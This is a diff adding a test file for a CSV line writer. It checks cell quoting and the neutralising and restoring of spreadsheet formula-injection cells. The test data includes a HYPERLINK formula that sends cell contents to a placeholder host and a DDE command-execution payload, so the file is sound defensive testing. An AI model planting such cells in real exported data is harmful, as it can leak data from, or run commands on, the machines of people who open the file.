@@ -1,0 +1,42 @@
+import { parse } from 'csv-parse/sync';
+import { assert, property, string } from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { csvLine, harmless, restored } from './csv.js';
+
+describe('a line of a table', () => {
+  it('quotes every cell and ends as RFC 4180 says', () => {
+    expect(csvLine(['a', '', 'say "hi", Ada', 'two\nlines'])).toBe(
+      '"a","","say ""hi"", Ada","two\nlines"\r\n',
+    );
+  });
+
+  it.each([
+    '=1+1',
+    '=HYPERLINK("http://example.com/?"&A1,"click")',
+    '+1',
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(A1:A9)',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '＝1+1',
+    '＠SUM(1)',
+  ])('keeps a spreadsheet from running %j', (cell) => {
+    expect(harmless(cell)).toBe(`'${cell}`);
+  });
+
+  it.each(['Ada', "'tis", 'a=b', '1-2', "o'neil@example.com", ''])('leaves %j as it is', (cell) => {
+    expect(harmless(cell)).toBe(cell);
+  });
+
+  it('comes back the same, whatever is in it', () => {
+    const tricky = string({ unit: 'binary' }).map((text) => text.replaceAll('\ufeff', ''));
+    assert(
+      property(tricky, tricky, (a, b) => {
+        const [row] = parse(csvLine(['x', a, b]), { record_delimiter: '\r\n' }) as string[][];
+        expect(row?.slice(1).map(restored)).toEqual([a, b]);
+      }),
+    );
+    for (const cell of ["'=1", "''=1", "'", "''", "'a"]) expect(restored(harmless(cell))).toBe(cell);
+  });
+});
